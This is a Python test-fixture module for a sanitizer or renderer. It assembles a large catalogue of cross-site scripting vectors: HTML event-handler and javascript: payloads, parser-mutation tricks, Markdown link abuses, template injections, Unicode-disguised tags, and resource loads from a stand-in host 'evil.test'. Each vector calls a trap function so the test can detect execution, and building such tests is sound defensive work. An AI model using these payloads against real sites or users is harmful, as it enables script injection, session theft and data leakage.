"""What somebody could write to make other people's browsers do something: our own collection.

Every vector that gets through calls `fwTrap(n)`, n being its number, or asks for something at EVIL. Written
for this test: by what a browser may take for code (HTML), what Markdown may make of a text, what two parsers
may read differently (mutations), and what hides one of these (entities, invisible and turning characters).
"""

from collections.abc import Iterator

EVIL = "http://evil.test"

# {} is the call, E the address that nobody may ask for.
HTML = """
<script>{}</script>
<SCRIPT>{}</SCRIPT>
<scr<script>ipt>{}</scr</script>ipt>
<script src=E/x.js></script>
<script type=module>import "E/x.js"</script>
<script/x>{}</script/x>
<script
>{}</script>
<!--><script>{}</script>-->
<img src=x onerror={}>
<img src=x onerror="{}">
<img/src=x/onerror={}>
<img src="x` `<script>{}</script>"` `>
<img src=E/pixel.gif>
<img srcset="E/pixel.gif 1x">
<img src=x:x onerror&#61;{}>
<IMG SRC=x OnErRoR={}>
<img src=x onerror
={}>
<image src=x onerror={}>
<picture><source srcset=E/p.gif><img src=x onerror={}></picture>
<input autofocus onfocus={}>
<input type=image src=x onerror={}>
<button autofocus onfocus={}>x</button>
<textarea autofocus onfocus={}></textarea>
<select autofocus onfocus={}></select>
<keygen autofocus onfocus={}>
<video src=x onerror={}></video>
<video><source onerror={}></video>
<video poster=E/p.gif></video>
<audio src=x onerror={}></audio>
<audio autoplay src=E/a.ogg></audio>
<track src=E/t.vtt default>
<iframe src="javascript:parent.{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe src=E/></iframe>
<frame src="javascript:{}"><frameset onload={}>
<object data="javascript:{}"></object>
<object data=E/x type=text/html></object>
<embed src="javascript:{}">
<embed src=E/x.swf>
<applet code=E/x></applet>
<body onload={}>
<body background=E/b.gif>
<html onmouseover={}>
<head><base href=E/></head><a href=x>x</a>
<base href=E/>
<link rel=stylesheet href=E/x.css>
<link rel=import href=E/x.html>
<link rel=prefetch href=E/p>
<link rel=preload as=script href=E/x.js onload={}>
<meta http-equiv=refresh content="0;url=javascript:{}">
<meta http-equiv=refresh content="0;url=E/">
<style>@import "E/x.css";</style>
<style>*{{background:url(E/b.gif)}}</style>
<style onload={}></style>
<p style="background:url(E/b.gif)">x</p>
<p style="width:expression({})">x</p>
<p style="behavior:url(E/x.htc)">x</p>
<p style="position:fixed;inset:0;z-index:9999" onmouseover={}>x</p>
<div style="animation-name:x" onanimationstart={}>x</div>
<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationend={}>x</b>
<b ontransitionend={} style="transition:color 1s">x</b>
<details open ontoggle={}><summary>x</summary></details>
<dialog open onclose={}>x</dialog>
<marquee onstart={}>x</marquee>
<marquee loop=1 width=0 onfinish={}>x</marquee>
<isindex action="javascript:{}" type=image>
<form action="javascript:{}"><button autofocus>x</button></form>
<form id=f></form><button form=f formaction="javascript:{}">x</button>
<a href="javascript:{}">x</a>
<a href=" javascript:{}">x</a>
<a href="java&#10;script:{}">x</a>
<a href="&#106;avascript:{}">x</a>
<a href="javascript&colon;{}">x</a>
<a href="data:text/html,<script>opener.{}</script>">x</a>
<a href="vbscript:{}">x</a>
<a href=x onclick={} autofocus onfocus={}>x</a>
<a ping=E/ping href=x>x</a>
<area href="javascript:{}" shape=default>
<map name=m><area onfocus={} autofocus href=x></map>
<math><mtext></mtext><script>{}</script></math>
<math href="javascript:{}">x</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:{}">x</maction></math>
<svg onload={}>
<svg><script>{}</script></svg>
<svg><script href=E/x.js /></svg>
<svg><script xlink:href="data:,{}"></script></svg>
<svg><a xlink:href="javascript:{}"><text y=20>x</text></a></svg>
<svg><image href=x onerror={}></image></svg>
<svg><image xlink:href=E/p.gif></image></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={}>#x"></use></svg>
<svg><use href="E/x.svg#x"></use></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributeName=x to=y>
<svg><a><animate attributeName=href values="javascript:{}"></animate><text>x</text></a></svg>
<svg><foreignObject><iframe src="javascript:parent.{}"></iframe></foreignObject></svg>
<svg><style>@import "E/x.css";</style></svg>
<svg><handler type="text/javascript" ev:event=load>{}</handler></svg>
<svg><feImage xlink:href=E/p.gif></feImage></svg>
<template><script>{}</script></template>
<template shadowrootmode=open><img src=x onerror={}></template>
<slot onslotchange={}><b>x</b></slot>
<noscript><p title="</noscript><img src=x onerror={}>"></noscript>
<xml><i><b>&lt;img src=x onerror={}&gt;</b></i></xml>
<xss id=x tabindex=1 onfocus={} autofocus></xss>
<x contenteditable onfocus={} autofocus>x</x>
<x onpointerrawupdate={}>x</x>
<b popover onbeforetoggle={}>x</b>
<fencedframe src=E/></fencedframe>
<portal src=E/></portal>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.{}'/>"></object>
"""

# What one parser takes for text and the next for markup.
MUTATIONS = """
<noscript><style></noscript><img src=x onerror={}></style></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={}&gt;">
<svg></p><style><a id="</style><img src=x onerror={}>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>
<math><annotation-xml encoding="text/html"><style><img src=x onerror={}></style></annotation-xml></math>
<svg><desc><style><img src=x onerror={}></style></desc></svg>
<svg><title><style><img src=x onerror={}></style></title></svg>
<table><td background="javascript:{}"><svg/onload={}></td></table>
<table><caption><svg><style></caption><img src=x onerror={}></style></svg></table>
<select><style></select><img src=x onerror={}></style></select>
<textarea><script>{}</textarea><img src=x onerror={}>
<title><a title="</title><img src=x onerror={}>">
<xmp><p title="</xmp><img src=x onerror={}>"></xmp>
<plaintext><img src=x onerror={}>
<listing>&lt;img src=x onerror={}&gt;</listing>
<iframe><a title="</iframe><img src=x onerror={}>"></iframe>
<noembed><a title="</noembed><img src=x onerror={}>"></noembed>
<noframes><a title="</noframes><img src=x onerror={}>"></noframes>
<!-- --!><img src=x onerror={}> -->
<!--[if IE]><img src=x onerror={}><![endif]-->
<![CDATA[<img src=x onerror={}>]]>
<?xml-stylesheet href="javascript:{}"?><img src=x onerror={}>
<!ENTITY x "<img src=x onerror={}>">&x;
<b <script>{}</script>>x</b>
<b title="`"><img src=x onerror={}>">x</b>
<b title='"><img src=x onerror={}>'>x</b>
<a<img src=x onerror={}>>x
<<img src=x onerror={}>>
</p><img src=x onerror={}><p>
</div></article></li></ol><img src=x onerror={}>
</script><img src=x onerror={}>
</textarea></form><img src=x onerror={}>
]]></content></entry><script xmlns="http://www.w3.org/1999/xhtml">{}</script>
{{{{constructor.constructor('{}')()}}}}
${{{}}}
{{% raw %}}<img src=x onerror={}>{{% endraw %}}
"""

MARKDOWN = r"""
[x](javascript:{})
[x](JaVaScRiPt:{})
[x](javascript&colon;{})
[x](javascript&#58;{})
[x](&#x6A;avascript:{})
[x](java\tscript:{})
[x]( javascript:{} )
[x](<javascript:{}>)
[x](\x01javascript:{})
[x](javascript:{} "title")
[x](data:text/html;base64,PHNjcmlwdD5mZXRjaCgvZXZpbC8pPC9zY3JpcHQ+)
[x](data:image/svg+xml,<svg/onload={}>)
[x](vbscript:{})
[x](file:///etc/passwd)
[x](blob:{})
[x](view-source:javascript:{})
[x](feed:javascript:{})
[x](//evil.test/")
[x](http://a" onmouseover="{})
[x](http://a' autofocus onfocus='{})
[x](http://a "t" onfocus={} autofocus ")
[x](http://a '"><img src=x onerror={}>')
[<img src=x onerror={}>](http://a)
[x][y]\n\n[y]: javascript:{}
[x][y]\n\n[y]: <javascript:{}> "t"
![x](E/p.gif)
![x](javascript:{})
![x](x "onerror={}")
![x" onerror="{}](x)
![x][y]\n\n[y]: E/p.gif
[![x](E/p.gif)](javascript:{})
<javascript:{}>
<data:text/html,x>
<E/>
<http://a"onmouseover={}>
http://a"onmouseover={}//
www.a.test/<img src=x onerror={}>
`<img src=x onerror={}>`
``` {}\n<img src=x onerror={}>\n```
```html" onmouseover="{}\nx\n```
    <img src=x onerror={}>
> <img src=x onerror={}>
- <img src=x onerror={}>
1. <script>{}</script>
# <script>{}</script>
**<img src=x onerror={}>**
*<img src=x* onerror={}>
<img src=x **onerror={}**>
| a |\n|---|\n| <img src=x onerror={}> |
- [ ] <input autofocus onfocus={}>
[^1]\n\n[^1]: <img src=x onerror={}>
<div markdown=1>[x](javascript:{})</div>
<!--\n[x](javascript:{})\n-->
&lt;img src=x onerror={}&gt;
&amp;lt;img src=x onerror={}&amp;gt;
\<img src=x onerror={}\>
"""

# Around a core that is dangerous anywhere: what a filter may not see and a browser may ignore.
DISGUISES = (
    "\u202e{}\u202c", "\u2066{}\u2069", "\u200b{}\u200b", "\ufeff{}", "\u00ad{}", "{}\u0301\u0301\u0301",
    "\ufff9{}\ufffb", "a\u0300" * 40 + "{}", "\U000e0041{}\U000e007f", "&zwnj;{}&ZeroWidthSpace;",
)  # fmt: skip
CORES = (
    "<img src=x onerror={}>", "<svg/onload={}>", "[x](javascript:{})",
    "＜script＞{}＜/script＞", "<ſcript>{}</ſcript>", "<a href=java\u200bscript:{} autofocus onfocus={}>x</a>",
)  # fmt: skip

NAMES = (
    "<img src=x onerror={}>", "<script>{}</script>", '"><svg onload={}>', "' autofocus onfocus='{}", "{{{{{}}}}}",
    "&lt;img src=x onerror={}&gt;", "\u202e<b onfocus={}>", "</span><svg onload={}>", "a\u0301\u0302\u0303\u0304<i>",
    "javascript:{}", "</title><svg onload={}>", "]]><svg onload={}>",
)  # fmt: skip
TITLES = (
    "<script>{}</script>", "</title><script>{}</script>", '"><img src=x onerror={}>', "]]></title><script>{}</script>",
    "<svg onload={}>", "{{{{{}}}}}", "\u202e</h1><img src=x onerror={}>", "' onmouseover='{}",
    "<!--<img src=x onerror={}>", "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
ADDRESSES = (
    "https://a.test/\"><script>{}</script>", "https://a.test/' onmouseover='{}", "https://a.test/#<img src=x onerror={}>",
    "https://javascript:{}@a.test/", "https://a.test/?x=</a><script>{}</script>",
)  # fmt: skip


def bodies() -> list[str]:
    """Return every text, each calling the trap with its own number."""
    lines = [
        line.replace("\\n", "\n").replace("\\t", "\t").replace("\\x01", "\x01").replace("E/", f"{EVIL}/")
        for group in (_entries(HTML), _entries(MUTATIONS), _entries(MARKDOWN), _disguised())
        for line in group
    ]
    return [
        line.replace("{}", f"fwTrap({n})").replace("{{", "{").replace("}}", "}")
        for n, line in enumerate(lines)
    ]


def called(texts: tuple[str, ...], first: int) -> list[str]:
    """Return names, titles or addresses, calling the trap with numbers from `first` on."""
    return [
        text.replace("{}", f"fwTrap({n})").replace("{{", "{").replace("}}", "}")
        for n, text in enumerate(texts, start=first)
    ]


def _entries(block: str) -> Iterator[str]:
    """Yield the vectors of a block: a line each, or more where a tag goes over a line's end."""
    held = ""
    for line in block.strip("\n").split("\n"):
        held = f"{held}\n{line}" if held else line
        if held.count("<") <= held.count(">") or not held.endswith(("<script", "onerror")):
            yield held
            held = ""


def _disguised() -> Iterator[str]:
    for disguise in DISGUISES:
        for core in CORES:
            yield disguise.replace("{}", core)
